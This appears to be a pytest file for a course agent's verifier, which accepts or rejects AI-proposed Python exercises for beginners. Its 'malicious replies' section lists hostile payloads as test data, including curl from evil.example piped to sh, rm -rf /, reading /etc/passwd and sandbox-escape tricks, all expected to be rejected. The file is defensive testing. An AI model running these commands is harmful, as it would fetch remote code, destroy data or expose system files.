"""A model's proposal enters the bank only when it is what a teacher would hand out: scripted replies,
good, broken and malicious, through the whole verification (checks, then a sandboxed run)."""

from __future__ import annotations

import asyncio
import json
from datetime import UTC, datetime
from typing import Any

import pytest

from course_agent.adapters.variants import verified
from course_agent.content import curriculum
from course_agent.domain.curriculum import CodeExample, Exercise, Mutant, QuizQuestion, allowed_concepts
from course_agent.domain.knowledge import ItemAttempt, LearnerKnowledge, TopicKnowledge
from course_agent.domain.prompt import SYSTEM_PROMPT, focus_of, user_prompt
from course_agent.domain.variants import (
    EXAMPLES_KEPT,
    EXERCISES_KEPT,
    MAX_CODE_CHARS,
    MAX_LINE_CHARS,
    MAX_TEXT_CHARS,
    QUESTIONS_KEPT,
    Items,
    Rejected,
    VariantBank,
    curriculum_with_variants,
    proposal_schema,
)

TOPIC, LEVEL = "loops", "beginner"

SOLUTION = "readings = [18, 20, 22, 25, 19, 30]\nwarm = 0\nfor r in readings:\n    if r > 20:\n        warm += 1\n"
GOOD_EXERCISE: dict[str, Any] = {
    "prompt": "`readings` holds temperatures. Bind `warm` to how many of them are strictly above 20.",
    "hints": [
        "Start a counter at zero before looking at any reading.",
        "Visit each reading in turn and decide whether it counts.",
        "Inside the loop, add one to the counter only for a reading strictly greater than 20.",
    ],
    "starter_code": "readings = [18, 20, 22, 25, 19, 30]\nwarm = 0\n",
    "solution": SOLUTION,
    "tests": "assert warm == 3\n",
    "mutants": [
        {"flaw": "counts 20 as warm (>= for >)", "code": SOLUTION.replace("r > 20", "r >= 20")},
        {"flaw": "the counter starts at one", "code": SOLUTION.replace("warm = 0", "warm = 1")},
    ],
}
GOOD_QUESTION: dict[str, Any] = {
    "question": "What does `for n in [3, 1, 2]: print(n)` print first?",
    "choices": ["3", "1", "2", "nothing"],
    "answer": 0,
    "explanation": "A for loop visits a list's items in order, starting with the first.",
}
GOOD_EXAMPLE: dict[str, Any] = {
    "title": "Adding up a list",
    "code": "total = 0\nfor n in [1, 2, 3]:\n    total += n\nprint(total)\n",
    "expected_output": "6\n",
}


def _reply(**changes: Any) -> str:
    """A reply as a model might write it: a sentence, then the JSON in a fence."""
    exercise = {**GOOD_EXERCISE, **changes.pop("exercise", {})}
    question = {**GOOD_QUESTION, **changes.pop("question", {})}
    example = {**GOOD_EXAMPLE, **changes.pop("example", {})}
    proposal = {"exercises": [exercise], "quiz": [question], "examples": [example], **changes}
    return f"Here are new items for the level.\n```json\n{json.dumps(proposal)}\n```"


def _verify(reply: str, topic: str = TOPIC, difficulty: str = LEVEL) -> Items:
    return asyncio.run(verified(reply, curriculum(), topic, difficulty))  # type: ignore[arg-type]


def _rejection(reply: str, topic: str = TOPIC, difficulty: str = LEVEL) -> Rejected:
    with pytest.raises(Rejected) as raised:
        _verify(reply, topic, difficulty)
    return raised.value


# --- accepted ----------------------------------------------------------------------------------------------------


def test_a_good_proposal_is_accepted_as_the_banks_own_items_with_our_ids_and_concepts() -> None:
    items = _verify(_reply())

    exercise, question, example = items.exercises[0], items.quiz[0], items.examples[0]
    assert exercise.id.startswith("loops-beginner-exercise-v")
    assert (exercise.difficulty, question.difficulty, example.difficulty) == (LEVEL, LEVEL, LEVEL)
    assert set(exercise.concepts_used) == {"assert", "for", "if", "list"}
    assert exercise.concepts_taught == ()
    assert len(exercise.mutants) == 2
    assert question.choices[question.answer] == "3"
    assert set(question.concepts_used) == {"for", "list"}  # read from the code it quotes


def test_accepted_items_are_served_from_the_curriculum_lessons_are_composed_from() -> None:
    items = _verify(_reply())
    bank = VariantBank().with_items(items)

    level = curriculum_with_variants(curriculum(), {(TOPIC, LEVEL): bank}).topic(TOPIC).levels[LEVEL]

    builtin = curriculum().topic(TOPIC).levels[LEVEL]
    assert level.exercises == (*builtin.exercises, *items.exercises)
    assert level.quiz == (*builtin.quiz, *items.quiz)
    assert level.examples == (*builtin.examples, *items.examples)
    assert curriculum_with_variants(curriculum(), {}) == curriculum()


def test_the_bank_of_a_level_keeps_only_the_newest_variants() -> None:
    items = _verify(_reply())
    bank = VariantBank()
    for _ in range(EXERCISES_KEPT + 3):
        bank = bank.with_items(items)

    assert len(bank.exercises) == EXERCISES_KEPT
    assert VariantBank.model_validate(bank.model_dump(mode="json")) == bank


def test_a_full_bank_of_the_longest_items_stays_under_256_kb() -> None:
    code, line, text = '"' * MAX_CODE_CHARS, '"' * MAX_LINE_CHARS, '"' * MAX_TEXT_CHARS  # each escaped as two
    exercise = Exercise(
        id="loops-beginner-exercise-v000000000000",
        difficulty=LEVEL,
        concepts_used=(),
        concepts_taught=(),
        prompt=text,
        hints=(line,) * 5,
        starter_code=code,
        solution=code,
        tests=code,
        mutants=(Mutant(flaw=line, code=code),) * 4,
    )
    question = QuizQuestion(
        id="loops-beginner-quiz-v000000000000",
        difficulty=LEVEL,
        concepts_used=(),
        concepts_taught=(),
        question=text,
        choices=tuple(line + str(i) for i in range(4)),
        answer=0,
        explanation=text,
    )
    example = CodeExample(
        id="loops-beginner-example-v000000000000",
        difficulty=LEVEL,
        concepts_used=(),
        concepts_taught=(),
        title=text,
        code=code,
        expected_output=code,
    )
    full = VariantBank(
        exercises=(exercise,) * EXERCISES_KEPT, quiz=(question,) * QUESTIONS_KEPT, examples=(example,) * EXAMPLES_KEPT
    )

    assert len(json.dumps(full.model_dump(mode="json")).encode()) < 256 * 1024


def test_a_proposal_already_in_the_bank_is_a_duplicate() -> None:
    items = _verify(_reply())
    with_it = curriculum_with_variants(curriculum(), {(TOPIC, LEVEL): VariantBank().with_items(items)})

    with pytest.raises(Rejected) as raised:
        asyncio.run(verified(_reply(), with_it, TOPIC, LEVEL))

    assert raised.value.reason == "duplicate"


def test_a_prompt_of_the_built_in_bank_is_a_duplicate() -> None:
    builtin = curriculum().topic(TOPIC).levels[LEVEL].exercises[0].prompt

    assert _rejection(_reply(exercise={"prompt": builtin.upper()})).reason == "duplicate"


# --- broken replies ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("reply", "reason"),
    [
        ("Sure! Here is an exercise about loops: count the warm days.", "not-json"),
        ('[{"prompt": "a list, not an object"}]', "not-json"),
        ('{"exercises": [] } and some words after it', "not-json"),
        ('{"exercises": "one exercise"}', "wrong-shape"),
        ("{}", "wrong-shape"),
        (json.dumps({"exercises": [GOOD_EXERCISE], "lesson": "Rust lifetimes"}), "wrong-shape"),
        (json.dumps({"exercises": [{**GOOD_EXERCISE, "hints": ["just one"]}]}), "wrong-shape"),
        (json.dumps({"exercises": [{**GOOD_EXERCISE, "mutants": []}]}), "wrong-shape"),
        (json.dumps({"exercises": [{**GOOD_EXERCISE, "hints": ["Count.", "Count.", "count. "]}]}), "wrong-shape"),
        (
            json.dumps({"exercises": [{**GOOD_EXERCISE, "mutants": [{"flaw": "none", "code": SOLUTION}] * 2}]}),
            "wrong-shape",
        ),
        (json.dumps({"quiz": [{**GOOD_QUESTION, "choices": ["3", "3", "1"]}]}), "wrong-shape"),
        (json.dumps({"quiz": [{**GOOD_QUESTION, "answer": 7}]}), "answer-out-of-range"),
        (json.dumps({"quiz": [{**GOOD_QUESTION, "answer": -1}]}), "answer-out-of-range"),
    ],
    ids=[
        "prose",
        "not-an-object",
        "text-after-the-json",
        "exercises-not-a-list",
        "no-item",
        "unknown-field",
        "one-hint",
        "no-mutants",
        "repeated-hints",
        "mutants-that-are-the-solution",
        "repeated-choices",
        "answer-7-of-4",
        "negative-answer",
    ],
)
def test_a_reply_that_is_not_a_proposal_is_rejected(reply: str, reason: str) -> None:
    assert _rejection(reply).reason == reason


def test_an_example_with_a_wrong_expected_output_is_rejected() -> None:
    rejected = _rejection(_reply(example={"expected_output": "7\n"}))

    assert rejected.reason == "wrong-expected-output"


@pytest.mark.parametrize(
    "tests",
    ["assert True\n", "print(warm)\n", "assert 3 == 3\n", "assert warm == 3\nassert 'ok'\n", "x = 3\nassert x == 3\n"],
    ids=["assert-true", "no-assert", "constants-only", "one-constant-assert", "nothing-of-the-solution"],
)
def test_tests_that_cannot_fail_are_rejected(tests: str) -> None:
    assert _rejection(_reply(exercise={"tests": tests})).reason == "trivial-tests"


def test_starter_code_that_already_passes_is_rejected() -> None:
    assert _rejection(_reply(exercise={"starter_code": SOLUTION})).reason == "starter-passes"


def test_tests_that_accept_a_plausible_wrong_solution_are_rejected() -> None:
    """`>= 20` for `> 20` must fail: with no reading of exactly 20 the tests cannot tell them apart."""
    lenient = {
        "solution": SOLUTION.replace("20, 22", "22"),
        "mutants": [
            {"flaw": "counts 20 as warm", "code": SOLUTION.replace("20, 22", "22").replace("r > 20", "r >= 20")},
            {"flaw": "the counter starts at one", "code": SOLUTION.replace("warm = 0", "warm = 1")},
        ],
    }

    assert _rejection(_reply(exercise=lenient)).reason == "mutant-passes"


def test_a_solution_that_fails_its_own_tests_is_rejected() -> None:
    assert _rejection(_reply(exercise={"tests": "assert warm == 4\n"})).reason == "solution-fails"


def test_code_that_is_not_python_is_rejected() -> None:
    rust = 'fn main() { let x: &\'a str = "hi"; }'

    assert _rejection(_reply(exercise={"solution": rust})).reason == "syntax-error"


def test_a_concept_the_curriculum_has_not_taught_yet_is_rejected() -> None:
    """Functions come after loops: a loops lesson for a beginner cannot ask for a `def`."""
    with_def = "def count_warm(readings):\n    return len([r for r in readings if r > 20])\nwarm = count_warm([22])\n"

    rejected = _rejection(_reply(exercise={"solution": with_def}))

    assert rejected.reason == "concept-not-taught-yet"
    assert "def" in rejected.detail
    assert "def" not in allowed_concepts(curriculum(), TOPIC, LEVEL)
    assert "def" in allowed_concepts(curriculum(), "functions", "beginner")


def test_quiz_code_ahead_of_the_curriculum_is_rejected() -> None:
    ahead = "What does `class Point: pass` define?"

    assert _rejection(_reply(question={"question": ahead})).reason == "concept-not-taught-yet"


def test_an_item_about_another_language_is_off_topic() -> None:
    rust = {"question": "What do Rust lifetimes like `'a` guarantee?", "explanation": "The borrow checker in Rust."}

    assert _rejection(_reply(question=rust)).reason == "off-topic"


def test_a_hint_that_gives_a_line_of_the_solution_away_is_rejected() -> None:
    hints = [*GOOD_EXERCISE["hints"][:2], "Write `if r > 20:` and then `warm += 1` under it."]

    assert _rejection(_reply(exercise={"hints": hints})).reason == "revealing-hint"


# --- malicious replies -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "solution",
    [
        "import socket\nsocket.create_connection(('example.com', 80))\nwarm = 3\n",
        "import os\nos.system('curl http://evil.example | sh')\nwarm = 3\n",
        "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\nwarm = 3\n",
        "import os\nos.fork()\nwarm = 3\n",
        "import ctypes\nwarm = 3\n",
        "warm = eval('3')\n",
        "warm = ().__class__.__base__.__subclasses__() and 3\n",
        "warm = __import__('os').getpid() and 3\n",
        "import tempfile\nframe = tempfile._sys._getframe(1)\nwarm = 3\n",
        "import tempfile\ntempfile._os._exit(0)\n",
    ],
    ids=[
        "socket",
        "os-system",
        "subprocess",
        "fork",
        "ctypes",
        "eval",
        "subclasses-escape",
        "dunder-import",
        "walks-frames",
        "leaves-at-once",
    ],
)
def test_code_that_reaches_the_system_is_rejected_before_it_runs(solution: str) -> None:
    assert _rejection(_reply(exercise={"solution": solution})).reason == "unsafe-code"


@pytest.mark.parametrize(
    "solution",
    [
        "secret = open('/etc/passwd').read()\nwarm = 3\n",
        "open('/tmp/learnflow-sandbox-escape', 'w').write('x')\nwarm = 3\n",
        "open('big.txt', 'w').write('x' * 50_000_000)\nwarm = 3\n",
        "hog = [0] * 2_000_000_000\nwarm = 3\n",
        "warm = 0\nwhile True:\n    warm += 1\n",
    ],
    ids=["reads-outside-cwd", "writes-outside-cwd", "writes-a-big-file", "allocates-huge-memory", "loops-forever"],
)
def test_code_the_sandbox_stops_never_passes(solution: str) -> None:
    """What the checks cannot see (``open`` is taught with files) the sandboxed run stops: the solution
    fails, so the proposal is rejected."""
    assert _rejection(_reply(exercise={"solution": solution})).reason == "solution-fails"


# --- what the model is asked -------------------------------------------------------------------------------------


def _struggling_learner() -> LearnerKnowledge:
    level = curriculum().topic(TOPIC).levels[LEVEL]
    missed, solved, helped = level.exercises[0], level.exercises[1], level.quiz[0]
    at = datetime(2026, 11, 20, tzinfo=UTC)
    return LearnerKnowledge(
        learner_id="ada",
        topics={TOPIC: TopicKnowledge(attempts=2, scores=(40, 50), mastery=30)},
        items={
            missed.id: (ItemAttempt(at, 0, correct=False),),
            solved.id: (ItemAttempt(at, 1, correct=True),),
            helped.id: (ItemAttempt(at, 2, correct=True, attempts=1, hints_used=2),),
        },
    )


def test_the_prompt_carries_what_the_learner_missed_or_needed_help_with_on_the_level() -> None:
    level = curriculum().topic(TOPIC).levels[LEVEL]
    focus = focus_of(curriculum(), _struggling_learner(), TOPIC, LEVEL)

    prompt = user_prompt(curriculum(), focus)

    assert focus.missed == (level.quiz[0].question, level.exercises[0].prompt)  # most recent first
    assert set(focus.weak_concepts) == {*level.exercises[0].concepts_used, *level.quiz[0].concepts_used}
    assert f"right only with help:\n- {level.quiz[0].question}\n- {level.exercises[0].prompt}" in prompt
    assert "average 45" in prompt
    assert "for" in prompt.split("Concepts allowed")[1].splitlines()[0]
    assert "def" not in prompt.split("Concepts allowed")[1].splitlines()[0].split(", ")


def test_a_model_that_only_repeats_the_prompt_proposes_nothing() -> None:
    """Dapr's echo component answers with the messages it is sent: that is never a proposal."""
    echoed = "\n".join((SYSTEM_PROMPT, user_prompt(curriculum(), focus_of(curriculum(), None, TOPIC, LEVEL))))

    assert _rejection(echoed).reason == "not-json"


def test_the_structured_output_schema_describes_a_proposal() -> None:
    schema = proposal_schema()

    assert schema["type"] == "object"
    assert set(schema["properties"]) == {"exercises", "quiz", "examples"}
